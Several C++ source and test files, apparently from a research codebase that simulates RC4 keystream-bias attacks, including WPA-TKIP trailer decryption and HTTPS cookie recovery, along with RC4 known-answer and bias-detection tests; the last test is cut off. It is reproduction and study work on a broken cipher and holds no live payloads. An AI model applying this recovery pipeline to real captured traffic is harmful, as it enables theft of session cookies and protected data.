class Algorithm1Sweep : public ::testing::TestWithParam<SweepParam> {};

TEST_P(Algorithm1Sweep, LazyEnumeratorAgreesWithListAlgorithm) {
  const auto [length, n] = GetParam();
  const auto tables = RandomSingleTables(length, 31 * length + n);
  const auto list = GenerateCandidatesSingle(tables, n);
  LazyCandidateEnumerator enumerator(tables);
  ASSERT_EQ(list.size(), n);
  for (size_t i = 0; i < n; ++i) {
    const Candidate lazy = enumerator.Next();
    ASSERT_NEAR(lazy.log_likelihood, list[i].log_likelihood, 1e-9)
        << "i=" << i << " length=" << length;
  }
}

TEST_P(Algorithm1Sweep, ScoresSortedAndSelfConsistent) {
  const auto [length, n] = GetParam();
  const auto tables = RandomSingleTables(length, 77 * length + n);
  const auto list = GenerateCandidatesSingle(tables, n);
  for (size_t i = 0; i < list.size(); ++i) {
    if (i > 0) {
      ASSERT_GE(list[i - 1].log_likelihood, list[i].log_likelihood);
    }
    double score = 0.0;
    for (size_t r = 0; r < length; ++r) {
      score += tables[r][list[i].plaintext[r]];
    }
    ASSERT_NEAR(score, list[i].log_likelihood, 1e-9);
  }
}

INSTANTIATE_TEST_SUITE_P(LengthsAndSizes, Algorithm1Sweep,
                         ::testing::Values(SweepParam{1, 256}, SweepParam{2, 64},
                                           SweepParam{3, 1000}, SweepParam{8, 512},
                                           SweepParam{12, 2048},
                                           SweepParam{16, 100}));

struct Algo2Param {
  size_t inner;
  size_t alphabet;
  size_t n;
};

class Algorithm2Sweep : public ::testing::TestWithParam<Algo2Param> {};

TEST_P(Algorithm2Sweep, MatchesExhaustiveEnumeration) {
  const auto [inner, alphabet_size, n] = GetParam();
  Xoshiro256 rng(inner * 131 + alphabet_size * 17 + n);
  std::vector<uint8_t> alphabet(alphabet_size);
  for (size_t i = 0; i < alphabet_size; ++i) {
    alphabet[i] = static_cast<uint8_t>('A' + i);
  }
  DoubleByteTables transitions(inner + 1, std::vector<double>(65536));
  for (auto& table : transitions) {
    for (auto& v : table) {
      v = -rng.UnitDouble() * 3.0;
    }
  }
  const auto list = GenerateCandidatesDouble(transitions, 'x', 'y', n, alphabet);

  // Exhaustive reference scores.
  std::vector<double> all_scores;
  std::vector<size_t> idx(inner, 0);
  while (true) {
    double score = transitions[0][static_cast<size_t>('x') * 256 + alphabet[idx[0]]];
    for (size_t t = 1; t < inner; ++t) {
      score += transitions[t][static_cast<size_t>(alphabet[idx[t - 1]]) * 256 +
                              alphabet[idx[t]]];
    }
    score +=
        transitions[inner][static_cast<size_t>(alphabet[idx[inner - 1]]) * 256 + 'y'];
    all_scores.push_back(score);
    size_t pos = 0;
    while (pos < inner && ++idx[pos] == alphabet_size) {
      idx[pos] = 0;
      ++pos;
    }
    if (pos == inner) {
      break;
    }
  }
  std::sort(all_scores.rbegin(), all_scores.rend());

  const size_t expect = std::min(n, all_scores.size());
  ASSERT_EQ(list.size(), expect);
  for (size_t i = 0; i < expect; ++i) {
    ASSERT_NEAR(list[i].log_likelihood, all_scores[i], 1e-9) << "i=" << i;
  }
}

INSTANTIATE_TEST_SUITE_P(Shapes, Algorithm2Sweep,
                         ::testing::Values(Algo2Param{1, 8, 10},
                                           Algo2Param{2, 6, 36},
                                           Algo2Param{3, 5, 125},
                                           Algo2Param{4, 4, 50},
                                           Algo2Param{5, 3, 243},
                                           Algo2Param{6, 2, 64}));

}  // namespace
}  // namespace rc4b
