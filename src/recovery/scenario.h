// Named end-to-end recovery scenarios (docs/recovery.md).
//
// A scenario is one parameterized Monte-Carlo evaluation of the unified
// recovery pipeline: victim setup, statistics capture (real or sampled from
// the exact law), a LikelihoodSource, and the rank / RecoveryEngine success
// criteria — run trial-parallel on src/sim/runner.h under its determinism
// contract, so every outcome is bit-exact for any worker count. The registry
// names concrete parameterizations (cookie length x charset x gap budget,
// TKIP trailer/payload variants, single-byte recovery beyond position 256)
// so benches, sims, examples and tests all drive the same API instead of
// hand-rolling per-workload harnesses.
#ifndef SRC_RECOVERY_SCENARIO_H_
#define SRC_RECOVERY_SCENARIO_H_

#include <cstdint>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "src/common/bytes.h"

namespace rc4b::recovery {

// Shared scale knobs. Zero (or empty) fields select the scenario's default,
// so one flag set drives every scenario family.
struct ScenarioParams {
  uint64_t trials = 8;      // simulated attacks
  unsigned workers = 0;     // trial shards; 0 = hardware concurrency
  uint64_t seed = 1;        // base seed of the (seed, trial) derivation
  uint64_t samples = 0;     // captured frames / requests per trial
  uint64_t budget = 0;      // candidate / brute-force attempt budget
  uint64_t model_keys = 0;  // attacker-model scale (keys per class / total)
  // RC4 lockstep width for engine-backed scenario setup (0 = auto,
  // 1 = scalar; see EngineOptions::interleave). Outcomes are bit-identical
  // for any width — this is a perf/diagnosis knob only.
  size_t interleave = 0;
  // RC4 lane kernel for engine-backed scenario setup ("" = auto; see
  // EngineOptions::kernel). Bit-identical for any kernel, like interleave.
  std::string kernel;
  // When set, engine-backed scenarios warm-start their attacker-model grids
  // from this store::GridCache directory (docs/store.md) instead of
  // regenerating each run. Cached and fresh grids are bit-identical, so
  // outcomes do not depend on this field.
  std::string grid_cache;
};

// Per-scenario aggregate, folded in trial order (bit-exact for any
// ScenarioParams::workers at a fixed seed).
struct ScenarioOutcome {
  uint64_t trials = 0;
  uint64_t budget_wins = 0;  // truth recoverable within the budget
  uint64_t exact_wins = 0;   // truth within the top two candidates
  // [trial] rank-style metric of the truth (candidate-list position).
  std::vector<double> ranks;

  bool operator==(const ScenarioOutcome&) const = default;
};

class Scenario {
 public:
  virtual ~Scenario() = default;

  const std::string& name() const { return name_; }
  const std::string& description() const { return description_; }

  // Runs params.trials simulated attacks on the thread pool. Deterministic:
  // a pure function of params minus params.workers.
  virtual ScenarioOutcome Run(const ScenarioParams& params) const = 0;

 protected:
  Scenario(std::string name, std::string description)
      : name_(std::move(name)), description_(std::move(description)) {}

 private:
  std::string name_;
  std::string description_;
};

class ScenarioRegistry {
 public:
  // Registers a scenario; its name must be unique within the registry.
  void Register(std::unique_ptr<Scenario> scenario);

  // Lookup by name; nullptr when absent.
  const Scenario* Find(std::string_view name) const;

  // All scenarios in registration order.
  std::vector<const Scenario*> List() const;

  // The built-in scenarios: the paper's two headline attacks plus the
  // variants listed in docs/recovery.md.
  static const ScenarioRegistry& Builtin();

 private:
  std::vector<std::unique_ptr<Scenario>> scenarios_;
};

// --- Built-in scenario families ------------------------------------------
// Factories are exposed so callers can register their own parameterizations
// next to the built-ins (see docs/recovery.md "adding a scenario").

// WPA-TKIP trailer decryption (Sect. 5): per-TSC1 likelihoods over captured
// retransmissions of the injected packet, CRC(MIC||ICV) verification.
struct TkipTrailerScenarioConfig {
  bool oracle = true;     // perfect-model victim (see src/sim/tkip_sim.h)
  Bytes payload;          // injected TCP payload; empty = Sect. 5.2's 7 bytes
  double target_bias_rms = 0.0015;  // model calibration (0 = raw model)
  uint64_t default_model_keys = uint64_t{1} << 14;  // keys per TSC1 class
  uint64_t default_samples = uint64_t{1} << 20;     // captured frames
  uint64_t default_budget = uint64_t{1} << 30;      // candidate traversal
};
std::unique_ptr<Scenario> MakeTkipTrailerScenario(
    std::string name, std::string description, TkipTrailerScenarioConfig config);

// HTTPS secure-cookie brute force (Sect. 6): combined FM + multi-gap ABSAB
// transition tables at paper-scale request counts, Algorithm 2 candidates
// restricted to the cookie charset, rank-vs-budget success.
struct CookieScenarioConfig {
  size_t cookie_length = 16;
  std::vector<uint8_t> alphabet;  // empty = CookieAlphabet64()
  uint64_t max_gap = 128;         // largest ABSAB gap combined
  size_t alignment = 48;          // cookie keystream position mod 256
  uint64_t default_samples = uint64_t{9} << 27;  // captured requests
  uint64_t default_budget = uint64_t{1} << 23;   // brute-force attempts
};
std::unique_ptr<Scenario> MakeCookieScenario(std::string name,
                                             std::string description,
                                             CookieScenarioConfig config);

// Single-byte plaintext recovery beyond keystream position 256 (Sect. 3.3.3
// / 6.1 setting): per-position distributions measured with the keystream
// engine, Poissonized ciphertext counts, lambda tables via formula (12), and
// a RecoveryEngine traversal with a truth oracle.
struct SingleByteScenarioConfig {
  size_t first_position = 257;  // 1-based; past the initial 256 bytes
  size_t length = 4;            // unknown plaintext bytes
  uint64_t default_model_keys = uint64_t{1} << 16;  // dataset keys
  uint64_t default_samples = uint64_t{1} << 12;     // captured ciphertexts
  uint64_t default_budget = uint64_t{1} << 16;      // candidate traversal
};
std::unique_ptr<Scenario> MakeSingleByteScenario(
    std::string name, std::string description, SingleByteScenarioConfig config);

}  // namespace rc4b::recovery

#endif  // SRC_RECOVERY_SCENARIO_H_
