// Concurrency stress for the store + engine stack, sized for the TSan CI
// leg: many in-shard workers x many small shards running in parallel
// threads, plus GridCache readers and writers racing on one cache entry.
// Every phase ends with a bit-exactness check against a single-threaded
// reference, so a race that corrupts counters fails loudly even on builds
// without ThreadSanitizer.
#include <algorithm>
#include <cstdio>
#include <string>
#include <thread>
#include <vector>

#include <gtest/gtest.h>

#include "src/store/grid_cache.h"
#include "src/store/grid_file.h"
#include "src/store/manifest.h"
#include "src/store/merge.h"
#include "src/store/shard_runner.h"

namespace rc4b::store {
namespace {

std::string TempDirFor(const char* name) {
  const std::string dir = std::string(::testing::TempDir()) + "/" + name;
  MakeDirs(dir);
  return dir;
}

GridMeta StressMeta() {
  GridMeta meta;
  meta.kind = GridKind::kSingleByte;
  meta.seed = 7;
  meta.key_begin = 0;
  meta.key_end = 1 << 10;
  meta.rows = 8;
  return meta;
}

TEST(ConcurrencyStressTest, ManyWorkersManySmallShardsMergeBitExactly) {
  const std::string dir = TempDirFor("stress-shards");
  const GridMeta meta = StressMeta();
  const std::string manifest_path = dir + "/stress.manifest";
  const Manifest manifest = PlanShards(meta, 8, dir + "/stress");
  ASSERT_TRUE(WriteManifest(manifest_path, manifest).ok());

  // Every shard in its own thread, every thread with in-shard workers and a
  // tiny checkpoint cadence: maximum churn through the lock-free counter
  // tiles, the merge mutex, and the checkpoint writer.
  std::vector<std::thread> threads;
  std::vector<IoStatus> results(manifest.shards.size());
  for (size_t s = 0; s < manifest.shards.size(); ++s) {
    threads.emplace_back([&, s] {
      ShardRunOptions options;
      options.workers = 4;
      options.checkpoint_keys = 32;
      ShardRunResult result;
      results[s] = RunShard(manifest, manifest_path, static_cast<uint32_t>(s),
                            options, &result);
      if (results[s].ok() && !result.finished) {
        results[s] = IoStatus::Fail("shard did not finish");
      }
    });
  }
  for (std::thread& thread : threads) {
    thread.join();
  }
  for (size_t s = 0; s < results.size(); ++s) {
    EXPECT_TRUE(results[s].ok()) << "shard " << s << ": "
                                 << results[s].message();
  }

  StoredGrid merged;
  const IoStatus merge_status =
      MergeShardGrids(manifest, manifest_path, &merged);
  ASSERT_TRUE(merge_status.ok()) << merge_status.message();

  const StoredGrid reference = GenerateStoredGrid(meta, 1, 1);
  ASSERT_EQ(merged.cells.size(), reference.cells.size());
  EXPECT_TRUE(std::equal(merged.cells.begin(), merged.cells.end(),
                         reference.cells.begin()));
}

TEST(ConcurrencyStressTest, ConcurrentCacheReadersSeeOneBitExactGrid) {
  const std::string dir = TempDirFor("stress-cache-read");
  GridCache cache(dir);
  DatasetOptions options;
  options.keys = 1 << 9;
  options.seed = 13;
  options.workers = 2;
  const SingleByteGrid reference = cache.LoadOrGenerateSingleByte(8, options);

  std::vector<std::thread> threads;
  std::vector<int> matches(8, 0);
  for (size_t t = 0; t < matches.size(); ++t) {
    threads.emplace_back([&, t] {
      GridCache reader(dir);
      const SingleByteGrid grid = reader.LoadOrGenerateSingleByte(8, options);
      matches[t] = grid.keys() == reference.keys() &&
                   std::equal(grid.Cells().begin(), grid.Cells().end(),
                              reference.Cells().begin());
    });
  }
  for (std::thread& thread : threads) {
    thread.join();
  }
  for (size_t t = 0; t < matches.size(); ++t) {
    EXPECT_TRUE(matches[t]) << "reader " << t << " loaded a different grid";
  }
}

TEST(ConcurrencyStressTest, RacingCacheFillsNeverPublishATornFile) {
  const std::string dir = TempDirFor("stress-cache-fill");
  DatasetOptions options;
  options.keys = 1 << 9;
  options.seed = 17;
  options.workers = 2;

  // No cache file exists yet: every thread generates and stores the same
  // entry concurrently. Writer-unique temp files (src/common/io.cc) are what
  // keep the final rename from ever publishing interleaved bytes.
  std::vector<std::thread> threads;
  std::vector<int> matches(8, 0);
  const StoredGrid reference =
      GenerateStoredGrid(MetaForSingleByte(8, options), 1, 1);
  for (size_t t = 0; t < matches.size(); ++t) {
    threads.emplace_back([&, t] {
      GridCache filler(dir);
      const SingleByteGrid grid = filler.LoadOrGenerateSingleByte(8, options);
      matches[t] = std::equal(reference.cells.begin(), reference.cells.end(),
                              grid.Cells().begin(), grid.Cells().end());
    });
  }
  for (std::thread& thread : threads) {
    thread.join();
  }
  for (size_t t = 0; t < matches.size(); ++t) {
    EXPECT_TRUE(matches[t]) << "filler " << t << " produced a different grid";
  }

  // Whatever the race left on disk must be a fully valid cache entry.
  GridCache cache(dir);
  StoredGrid cached;
  const IoStatus status = cache.TryLoad(MetaForSingleByte(8, options), &cached);
  ASSERT_TRUE(status.ok()) << status.message();
  EXPECT_TRUE(std::equal(cached.cells.begin(), cached.cells.end(),
                         reference.cells.begin()));
}

}  // namespace
}  // namespace rc4b::store
