#include "src/engine/accumulators.h"

#include <algorithm>
#include <cassert>

namespace rc4b {

namespace {

// Flush cadence for 16-bit worker tiles, counted in keys. The largest
// per-cell probability across our short-term datasets is ~2 * 2^-8 (the
// Mantin–Shamir Z2 = 0 bias), so per-cell counts stay below ~2^12 per flush —
// a wide margin under the 2^16 - 1 cap even with batch-sized overshoot.
constexpr uint64_t kKeysPerFlush = 1 << 19;

// Shard sink shared by all short-term accumulators: a 16-bit tile spilling
// into a cache-aligned 32-bit shard block; the block merges into the final
// 64-bit grid exactly once, when the engine retires the shard. Keeping the
// spill block at 32 bits halves per-shard memory (the paper's counter-size
// optimization is what lets ~24 digraph workers coexist) and is safe for any
// shard processing < 2^32 * min-cell-probability^-1 keys — far beyond 2^39
// keys per shard at our largest (~2^-7.3) cell probability.
class TileShardSink : public ShardSink {
 public:
  explicit TileShardSink(size_t cells) : tile_(cells), cells_(cells, 0) {}

  std::span<const uint32_t> cells() {
    tile_.FlushInto(cells_);
    return cells_;
  }

 protected:
  void CountKeysAndMaybeFlush(size_t rows) {
    keys_since_flush_ += rows;
    if (keys_since_flush_ >= kKeysPerFlush) {
      tile_.FlushInto(cells_);
      keys_since_flush_ = 0;
    }
  }

  WorkerTile tile_;

 private:
  AlignedVector<uint32_t> cells_;
  uint64_t keys_since_flush_ = 0;
};

class SingleByteShardSink : public TileShardSink {
 public:
  explicit SingleByteShardSink(size_t positions)
      : TileShardSink(positions * 256), positions_(positions) {}

  void Consume(const KeystreamBatch& batch) override {
    // Position-major: all rows hit one 256-cell tile region before moving
    // on, so the working set per step is a few cache lines instead of the
    // whole tile (the add order changes, the counts cannot).
    for (size_t pos = 0; pos < positions_; ++pos) {
      const uint8_t* column = batch.data + pos;
      for (size_t r = 0; r < batch.rows; ++r) {
        tile_.Add(pos * 256 + column[r * batch.length]);
      }
    }
    CountKeysAndMaybeFlush(batch.rows);
  }

 private:
  size_t positions_;
};

class ConsecutiveShardSink : public TileShardSink {
 public:
  explicit ConsecutiveShardSink(size_t positions)
      : TileShardSink(positions * 65536), positions_(positions) {}

  void Consume(const KeystreamBatch& batch) override {
    // Position-major (see SingleByteShardSink): for a 256-position digraph
    // tile the row-major order walked ~33 MB per key; this keeps each
    // position's 128 KB region hot for the whole batch. Cells are still
    // random within the region, so prefetch a few rows ahead.
    constexpr size_t kPrefetchRows = 16;
    for (size_t pos = 0; pos < positions_; ++pos) {
      const uint8_t* column = batch.data + pos;
      for (size_t r = 0; r < batch.rows; ++r) {
        if (r + kPrefetchRows < batch.rows) {
          const uint8_t* ahead = column + (r + kPrefetchRows) * batch.length;
          tile_.Prefetch(pos * 65536 + static_cast<size_t>(ahead[0]) * 256 +
                         ahead[1]);
        }
        const uint8_t* pair = column + r * batch.length;
        tile_.Add(pos * 65536 + static_cast<size_t>(pair[0]) * 256 + pair[1]);
      }
    }
    CountKeysAndMaybeFlush(batch.rows);
  }

 private:
  size_t positions_;
};

class PairShardSink : public TileShardSink {
 public:
  explicit PairShardSink(const std::vector<std::pair<uint32_t, uint32_t>>& pairs)
      : TileShardSink(pairs.size() * 65536), pairs_(pairs) {}

  void Consume(const KeystreamBatch& batch) override {
    // Pair-major for the same cache reasons as the other short-term sinks.
    for (size_t p = 0; p < pairs_.size(); ++p) {
      const size_t a = pairs_[p].first - 1;
      const size_t b = pairs_[p].second - 1;
      for (size_t r = 0; r < batch.rows; ++r) {
        const uint8_t* keystream = batch.data + r * batch.length;
        tile_.Add(p * 65536 + static_cast<size_t>(keystream[a]) * 256 +
                  keystream[b]);
      }
    }
    CountKeysAndMaybeFlush(batch.rows);
  }

 private:
  const std::vector<std::pair<uint32_t, uint32_t>>& pairs_;
};

}  // namespace

std::unique_ptr<ShardSink> SingleByteAccumulator::MakeShard() {
  return std::make_unique<SingleByteShardSink>(positions_);
}

void SingleByteAccumulator::MergeShard(ShardSink& shard, uint64_t keys) {
  grid_.MergeCounts32(static_cast<SingleByteShardSink&>(shard).cells(), keys);
}

std::unique_ptr<ShardSink> ConsecutiveAccumulator::MakeShard() {
  return std::make_unique<ConsecutiveShardSink>(positions_);
}

void ConsecutiveAccumulator::MergeShard(ShardSink& shard, uint64_t keys) {
  grid_.MergeCounts32(static_cast<ConsecutiveShardSink&>(shard).cells(), keys);
}

PairAccumulator::PairAccumulator(std::vector<std::pair<uint32_t, uint32_t>> pairs)
    : pairs_(std::move(pairs)), max_position_(0), grid_(pairs_.size()) {
  for (const auto& [a, b] : pairs_) {
    assert(a >= 1 && a < b);
    max_position_ = std::max<size_t>(max_position_, b);
  }
}

std::unique_ptr<ShardSink> PairAccumulator::MakeShard() {
  return std::make_unique<PairShardSink>(pairs_);
}

void PairAccumulator::MergeShard(ShardSink& shard, uint64_t keys) {
  grid_.MergeCounts32(static_cast<PairShardSink&>(shard).cells(), keys);
}

// ------------------------------------------------------------------------
// Long-term sinks.

namespace {

class LongTermDigraphShardSink : public StreamShardSink {
 public:
  LongTermDigraphShardSink() : cells_(256 * 65536, 0) {}

  void ConsumeChunk(std::span<const uint8_t> chunk, size_t owned) override {
    // chunk_bytes is a 256-multiple and owned positions restart at 0 each
    // key, so owned position `off` always sits at counter class off % 256.
    for (size_t base = 0; base < owned; base += 256) {
      const uint8_t* block = chunk.data() + base;
      for (size_t off = 0; off < 256; ++off) {
        cells_[off * 65536 + static_cast<size_t>(block[off]) * 256 +
               block[off + 1]] += 1;
      }
    }
  }

  std::span<const uint32_t> cells() const { return cells_; }

 private:
  // 32-bit shard-local block (67 MB instead of 134 MB), mirroring the
  // paper's counter-size optimization; per-cell shard counts stay < 2^32.
  AlignedVector<uint32_t> cells_;
};

class AbsabShardSink : public StreamShardSink {
 public:
  explicit AbsabShardSink(uint64_t max_gap) : matches_(max_gap + 1, 0) {}

  void ConsumeChunk(std::span<const uint8_t> chunk, size_t owned) override {
    const uint8_t* c = chunk.data();
    const size_t gaps = matches_.size();
    for (size_t r = 0; r < owned; ++r) {
      const uint8_t a = c[r];
      const uint8_t b = c[r + 1];
      for (size_t g = 0; g < gaps; ++g) {
        matches_[g] += (a == c[r + g + 2] && b == c[r + g + 3]) ? 1 : 0;
      }
    }
  }

  std::span<const uint64_t> matches() const { return matches_; }

 private:
  AlignedVector<uint64_t> matches_;
};

class AlignedPairShardSink : public StreamShardSink {
 public:
  AlignedPairShardSink(uint32_t offset_a, uint32_t offset_b)
      : offset_a_(offset_a), offset_b_(offset_b), cells_(65536, 0) {}

  void ConsumeChunk(std::span<const uint8_t> chunk, size_t owned) override {
    for (size_t base = 0; base < owned; base += 256) {
      const uint8_t* block = chunk.data() + base;
      cells_[static_cast<size_t>(block[offset_a_]) * 256 + block[offset_b_]] += 1;
    }
  }

  std::span<const uint64_t> cells() const { return cells_; }

 private:
  uint32_t offset_a_;
  uint32_t offset_b_;
  AlignedVector<uint64_t> cells_;
};

}  // namespace

std::unique_ptr<StreamShardSink> LongTermDigraphAccumulator::MakeShard() {
  return std::make_unique<LongTermDigraphShardSink>();
}

void LongTermDigraphAccumulator::MergeShard(StreamShardSink& shard, uint64_t keys,
                                            uint64_t owned_per_key) {
  grid_.MergeCounts32(static_cast<LongTermDigraphShardSink&>(shard).cells(),
                      keys * (owned_per_key / 256));
}

std::unique_ptr<StreamShardSink> AbsabAccumulator::MakeShard() {
  return std::make_unique<AbsabShardSink>(max_gap_);
}

void AbsabAccumulator::MergeShard(StreamShardSink& shard, uint64_t keys,
                                  uint64_t owned_per_key) {
  const auto local = static_cast<AbsabShardSink&>(shard).matches();
  for (size_t g = 0; g < matches_.size(); ++g) {
    matches_[g] += local[g];
    samples_[g] += keys * owned_per_key;
  }
}

std::unique_ptr<StreamShardSink> AlignedPairAccumulator::MakeShard() {
  return std::make_unique<AlignedPairShardSink>(offset_a_, offset_b_);
}

void AlignedPairAccumulator::MergeShard(StreamShardSink& shard, uint64_t keys,
                                        uint64_t owned_per_key) {
  (void)keys;
  (void)owned_per_key;
  const auto local = static_cast<AlignedPairShardSink&>(shard).cells();
  for (size_t i = 0; i < counts_.size(); ++i) {
    counts_[i] += local[i];
  }
}

}  // namespace rc4b
