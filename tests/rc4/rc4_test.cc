#include "src/rc4/rc4.h"

#include <gtest/gtest.h>

#include "src/common/bytes.h"
#include "src/common/rng.h"

namespace rc4b {
namespace {

// Widely published RC4 known-answer vectors.
TEST(Rc4Test, KeyPlaintextVector) {
  const Bytes key = FromString("Key");
  const Bytes plaintext = FromString("Plaintext");
  Rc4 rc4(key);
  Bytes ciphertext(plaintext.size());
  rc4.Process(plaintext, ciphertext);
  EXPECT_EQ(ToHex(ciphertext), "bbf316e8d940af0ad3");
}

TEST(Rc4Test, WikiVector) {
  const Bytes key = FromString("Wiki");
  const Bytes plaintext = FromString("pedia");
  Rc4 rc4(key);
  Bytes ciphertext(plaintext.size());
  rc4.Process(plaintext, ciphertext);
  EXPECT_EQ(ToHex(ciphertext), "1021bf0420");
}

TEST(Rc4Test, SecretVector) {
  const Bytes key = FromString("Secret");
  const Bytes plaintext = FromString("Attack at dawn");
  Rc4 rc4(key);
  Bytes ciphertext(plaintext.size());
  rc4.Process(plaintext, ciphertext);
  EXPECT_EQ(ToHex(ciphertext), "45a01f645fc35b383552544b9bf5");
}

// RFC 6229 keystream vector, offset 0.
TEST(Rc4Test, Rfc6229Key128Bit) {
  const Bytes key = FromHex("0102030405060708090a0b0c0d0e0f10");
  Rc4 rc4(key);
  Bytes keystream(16);
  rc4.Keystream(keystream);
  EXPECT_EQ(ToHex(keystream), "9ac7cc9a609d1ef7b2932899cde41b97");
}

TEST(Rc4Test, EncryptDecryptRoundTrip) {
  Xoshiro256 rng(1);
  for (int trial = 0; trial < 20; ++trial) {
    Bytes key(16);
    rng.Fill(key);
    Bytes plaintext(100 + trial);
    rng.Fill(plaintext);

    Rc4 enc(key);
    Bytes ciphertext(plaintext.size());
    enc.Process(plaintext, ciphertext);

    Rc4 dec(key);
    Bytes decrypted(ciphertext.size());
    dec.Process(ciphertext, decrypted);
    EXPECT_EQ(decrypted, plaintext);
  }
}

TEST(Rc4Test, SkipMatchesDiscardedPrefix) {
  const Bytes key = FromHex("0102030405060708090a0b0c0d0e0f10");
  Rc4 a(key);
  Bytes full(300);
  a.Keystream(full);

  Rc4 b(key);
  b.Skip(257);
  Bytes tail(43);
  b.Keystream(tail);
  EXPECT_EQ(Bytes(full.begin() + 257, full.end()), tail);
}

TEST(Rc4Test, StateIsAlwaysPermutation) {
  Xoshiro256 rng(2);
  Bytes key(16);
  rng.Fill(key);
  Rc4 rc4(key);
  rc4.Skip(1000);
  std::array<int, 256> seen{};
  for (uint8_t v : rc4.State()) {
    ++seen[v];
  }
  for (int i = 0; i < 256; ++i) {
    EXPECT_EQ(seen[i], 1);
  }
}

TEST(Rc4Test, CounterIWrapsMod256) {
  const Bytes key = FromString("counter");
  Rc4 rc4(key);
  EXPECT_EQ(rc4.CounterI(), 0);
  rc4.Next();
  EXPECT_EQ(rc4.CounterI(), 1);
  rc4.Skip(254);
  EXPECT_EQ(rc4.CounterI(), 255);
  rc4.Next();
  EXPECT_EQ(rc4.CounterI(), 0);
}

TEST(Rc4Test, ShortAndRepeatedKeyEquivalence) {
  // The KSA cycles the key; a key repeated to 256 bytes behaves identically.
  const Bytes key = FromString("abcd");
  Bytes repeated;
  for (int i = 0; i < 64; ++i) {
    repeated.insert(repeated.end(), key.begin(), key.end());
  }
  Rc4 a(key);
  Rc4 b(repeated);
  Bytes ka(64), kb(64);
  a.Keystream(ka);
  b.Keystream(kb);
  EXPECT_EQ(ka, kb);
}

// The Mantin–Shamir bias: Pr[Z2 = 0] ~ 2/256, twice uniform. A smoke-scale
// statistical property test of the cipher itself (Sect. 2.1.1 of the paper).
TEST(Rc4Test, MantinShamirZ2Bias) {
  Xoshiro256 rng(3);
  const int keys = 1 << 17;
  int z2_zero = 0;
  Bytes key(16);
  for (int k = 0; k < keys; ++k) {
    rng.Fill(key);
    Rc4 rc4(key);
    rc4.Next();
    z2_zero += rc4.Next() == 0 ? 1 : 0;
  }
  const double rate = static_cast<double>(z2_zero) / keys;
  // Expect ~2/256 = 0.0078; uniform would be 0.0039. 6-sigma band ~ 0.0015.
  EXPECT_GT(rate, 0.0062);
  EXPECT_LT(rate, 0.0095);
}

}  // namespace
}  // namespace rc4b
