#include "src/biases/bias_scan.h"

#include <gtest/gtest.h>

#include "src/biases/dataset.h"
#include "src/common/rng.h"

namespace rc4b {
namespace {

TEST(BiasScanTest, StrongInitialBytesDetectedBiased) {
  // The paper (with 2^47 keys) rejects uniformity for all initial 513 bytes.
  // At 2^20 keys only the strongest positions clear the Holm-corrected 1e-4
  // threshold — position 2 (Mantin–Shamir, 100% relative on one cell) with
  // certainty, and typically position 1.
  DatasetOptions options;
  options.keys = 1 << 20;
  options.workers = 8;
  options.seed = 21;
  const auto grid = GenerateSingleByteDataset(8, options);
  const auto results = ScanSingleBytes(grid);
  EXPECT_TRUE(results[1].biased);  // Z2
  // The remaining positions' biases (~2^-8 relative) are below this sample
  // size's detection floor; the scan must simply not report spurious rejects
  // beyond what the data supports.
  for (const auto& r : results) {
    EXPECT_LE(r.p_adjusted, 1.0);
  }
}

TEST(BiasScanTest, UniformSyntheticDataNotRejected) {
  // Feed truly uniform synthetic counts: the scan must not reject (FWER
  // control), demonstrating the pipeline is sound, not trigger-happy.
  Xoshiro256 rng(22);
  SingleByteGrid grid(16);
  const uint64_t keys = 1 << 16;
  for (uint64_t k = 0; k < keys; ++k) {
    for (size_t pos = 0; pos < 16; ++pos) {
      grid.Add(pos, rng.Byte());
    }
  }
  grid.AddKeys(keys);
  for (const auto& r : ScanSingleBytes(grid)) {
    EXPECT_FALSE(r.biased) << "position " << r.position;
  }
}

TEST(BiasScanTest, DependenceDetectedForCorrelatedPair) {
  // Synthetic pair with an implanted dependency in one cell.
  Xoshiro256 rng(23);
  DigraphGrid grid(1);
  const uint64_t keys = 1 << 20;
  for (uint64_t k = 0; k < keys; ++k) {
    uint8_t a = rng.Byte();
    uint8_t b = rng.Byte();
    // Couple (a, b): with probability 2^-6 force b = a (the Paul-Preneel
    // Z1 = Z2 shape, amplified so 2^20 keys give a Holm-proof signal).
    if ((rng() & 0x3f) == 0) {
      b = a;
    }
    grid.Add(0, a, b);
  }
  grid.AddKeys(keys);
  const auto dependence = ScanPairDependence(grid);
  EXPECT_TRUE(dependence[0].dependent);
}

TEST(BiasScanTest, IndependentPairNotFlagged) {
  Xoshiro256 rng(24);
  DigraphGrid grid(1);
  const uint64_t keys = 1 << 19;
  for (uint64_t k = 0; k < keys; ++k) {
    grid.Add(0, rng.Byte(), rng.Byte());
  }
  grid.AddKeys(keys);
  const auto dependence = ScanPairDependence(grid);
  EXPECT_FALSE(dependence[0].dependent);
}

TEST(BiasScanTest, FindBiasedCellsPinpointsImplantedCell) {
  Xoshiro256 rng(25);
  DigraphGrid grid(1);
  const uint64_t keys = 1 << 21;
  for (uint64_t k = 0; k < keys; ++k) {
    uint8_t a = rng.Byte();
    uint8_t b = rng.Byte();
    if (a == 17 && (rng() & 0x3f) == 0) {
      b = 34;  // boost (17, 34) by ~1/64 of a's mass
    }
    grid.Add(0, a, b);
  }
  grid.AddKeys(keys);
  const auto cells = FindBiasedCells(grid, 0);
  ASSERT_FALSE(cells.empty());
  EXPECT_EQ(cells[0].v1, 17);
  EXPECT_EQ(cells[0].v2, 34);
  EXPECT_GT(cells[0].relative_bias, 0.0);
}

TEST(BiasScanTest, RelativeBiasSignMatchesDirection) {
  DigraphGrid grid(1);
  // Perfectly uniform marginals, one cell moved up and a partner down.
  for (int a = 0; a < 256; ++a) {
    for (int b = 0; b < 256; ++b) {
      grid.Add(0, static_cast<uint8_t>(a), static_cast<uint8_t>(b), 100);
    }
  }
  grid.Add(0, 1, 1, 10);  // positive cell
  grid.AddKeys(100 * 65536 + 10);
  EXPECT_GT(RelativeBias(grid, 0, 1, 1), 0.0);
  // Cells sharing a marginal with the boosted cell are now below their
  // independence expectation (their marginal grew, their count did not).
  EXPECT_LT(RelativeBias(grid, 0, 1, 2), 0.0);
}

TEST(BiasScanTest, RealRc4FindsIsobeZ1Z2ZeroBias) {
  // End-to-end on real RC4: the strongest (Z1, Z2) dependency is Isobe's
  // Pr[Z1 = Z2 = 0] ~ 3 * 2^-16, a ~+50% relative bias over the product of
  // marginals — detectable with ~2^23 keys, unlike the 2^-8-scale FM cells.
  DatasetOptions options;
  options.keys = 1 << 23;
  options.workers = 0;
  options.seed = 26;
  const auto grid = GenerateConsecutiveDataset(2, options);
